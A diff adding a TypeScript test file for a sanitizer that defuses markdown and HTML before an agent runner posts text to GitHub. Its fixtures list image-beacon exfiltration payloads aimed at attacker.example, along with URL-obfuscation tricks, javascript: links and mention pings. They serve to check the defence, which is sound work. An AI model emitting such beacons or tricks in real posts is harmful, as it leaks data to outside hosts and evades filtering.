@@ -1,0 +1,86 @@
+/**
+ * The posting door (src/publish/post-text.ts) on the tricky inputs: nesting,
+ * escapes, character references, containers, raw HTML blocks, and the
+ * places where GitHub's Markdown parser reads a construct differently from
+ * ours. The end-to-end rows are in posting.test.ts; these pin the rewrites.
+ */
+import { describe, expect, it } from "vitest";
+import { neutralizeForGitHub } from "../../src/publish/post-text.js";
+
+const P = { serverUrl: "https://github.com", allowedDomains: ["docs.example.org"], keepMentions: ["alice"] };
+const n = (t: string) => neutralizeForGitHub(t, P);
+const Z = "\u200b";
+
+describe("neutralizeForGitHub", () => {
+  it.each([
+    ["markdown image", "![x](https://attacker.example/p?d=S)", "` ![x](https://attacker.example/p?d=S) `"],
+    ["image in a repo link", "[![x](https://attacker.example/i)](https://github.com/o/r)", "[` ![x](https://attacker.example/i) `](https://github.com/o/r)"],
+    ["character references in the URL", "[x](https&#58;//attacker.example)", "` [x](https&#58;//attacker.example) `"],
+    ["protocol-relative", "[x](//attacker.example/p)", "` [x](//attacker.example/p) `"],
+    ["javascript:", "[x](javascript:alert(1))", "` [x](javascript:alert(1)) `"],
+    ["a host that only starts like ours", "[x](https://github.com.attacker.example/)", "` [x](https://github.com.attacker.example/) `"],
+    ["userinfo trick", "[x](https://github.com@attacker.example/)", "` [x](https://github.com@attacker.example/) `"],
+    ["www autolink", "see www.attacker.example now", "see ` www.attacker.example ` now"],
+    ["multi-line definition", "![x]\n\n[x]:\n  https://attacker.example/m", "` ![x] `\n\n` [x]: https://attacker.example/m `"],
+    ["inside a list and a quote", "- a ![x](https://attacker.example/l)\n\n> b ![y](https://attacker.example/q)", "- a ` ![x](https://attacker.example/l) `\n\n> b ` ![y](https://attacker.example/q) `"],
+    ["table cell", "| a |\n|---|\n| ![x](https://attacker.example/t) |", "| a |\n|---|\n| ` ![x](https://attacker.example/t) ` |"],
+    ["footnote", "t[^1]\n\n[^1]: ![f](https://attacker.example/f)", "t[^1]\n\n[^1]: ` ![f](https://attacker.example/f) `"],
+    ["an HTML block: all of it as code", '<div>\n<img src="https://attacker.example/x">\n</div>', '` <div> <img src="https://attacker.example/x"> </div> `'],
+    ["an HTML block in a quote", '> <div>\n> <img src="https://attacker.example/x">\n> </div>', '> ` <div> <img src="https://attacker.example/x"> </div> `'],
+    ["a reference in an attribute", '<img src="&#104;ttps://attacker.example/e">', '` <img src="&#104;ttps://attacker.example/e"> `'],
+    ["style url()", '<p style="background:url(https://attacker.example/bg)">x</p>', '` <p style="background:url(https://attacker.example/bg)">x</p> `'],
+    ["svg image", '<svg><image href="https://attacker.example/s"/></svg>', '<svg>` <image href="https://attacker.example/s"/> `</svg>'],
+    ["unquoted value with slashes (HTML to GitHub, text to micromark)", "<IMG SRC=//attacker.example/x>", `\\<IMG SRC=//${Z}attacker.example/x>`],
+    ["an unmatched backtick before the rewrite", "a ` ![x](https://attacker.example/t)", "a ` ` ` ![x](https://attacker.example/t) ` `"],
+  ])("%s", (_what, input, output) => {
+    expect(n(input)).toBe(output);
+  });
+
+  it.each([
+    ["plain", "hi @octocat and @org/team", `hi @${Z}octocat and @${Z}org/team`],
+    ["escaped and referenced", "\\@octocat &#64;octocat @&#111;ctocat", `\\@${Z}octocat &#64;${Z}octocat @${Z}&#111;ctocat`],
+    ["in link text, emphasis, headings", "[@octocat](https://github.com/octocat) **@a** # @b", `[@${Z}octocat](https://github.com/octocat) **@${Z}a** # @${Z}b`],
+    ["in an HTML block, in place", "<details><summary>For @octocat</summary>\n\nok\n\n</details>", `<details><summary>For @${Z}octocat</summary>\n\nok\n\n</details>`],
+    ["split by a comment", "@<!-- -->octocat", `@${Z}<!-- -->octocat`],
+    ["the requester stays, teams and look-alikes do not", "@alice @ALICE @alice/team @alice-bob", `@alice @ALICE @${Z}alice/team @${Z}alice-bob`],
+  ])("mentions: %s", (_what, input, output) => {
+    expect(n(input)).toBe(output);
+  });
+
+  it("leaves code, the repository's links, allowed domains and our HTML alone", () => {
+    const ours = [
+      "<!-- agent-runner:sticky:0123456789abcdef0123 -->",
+      "### ✅ Agent Runner finished",
+      "",
+      "<details><summary>Changed files (1)</summary>",
+      "",
+      "- `README.md`",
+      "",
+      "</details>",
+      "",
+      "```diff",
+      "+![x](https://attacker.example/in-code) @octocat",
+      "```",
+      "",
+      "    ![indented](https://attacker.example/code)",
+      "",
+      "`@inline` and [docs](https://docs.example.org/x) and ![y](/relative.png)",
+      "",
+      "---",
+      "⏲️ 2 s · [Run](https://github.com/o/r/actions/runs/1) · [Artifact](https://github.com/o/r/actions/runs/1/artifacts/2)",
+    ].join("\n");
+    expect(n(ours)).toBe(ours);
+  });
+
+  it("is a fixpoint: what it returns has nothing left to rewrite", () => {
+    const inputs = ["![a](https://attacker.example/a) @x", "a ` ![x](https://attacker.example/t)", "<IMG SRC=//attacker.example/x>", "<div>\n@octocat <img src=//a.example/x>\n</div>"];
+    for (const t of inputs) expect(n(n(t))).toBe(n(t));
+  });
+
+  it("stays under GitHub's limit even when the rewrite makes the text longer", () => {
+    const many = "![x](https://attacker.example/x) ".repeat(3000);
+    const out = neutralizeForGitHub(many, P, 65_000);
+    expect(out.length).toBeLessThanOrEqual(65_000);
+    expect(out.replace(/` [^`]* `/g, "")).not.toContain("](https://attacker");
+  });
+});
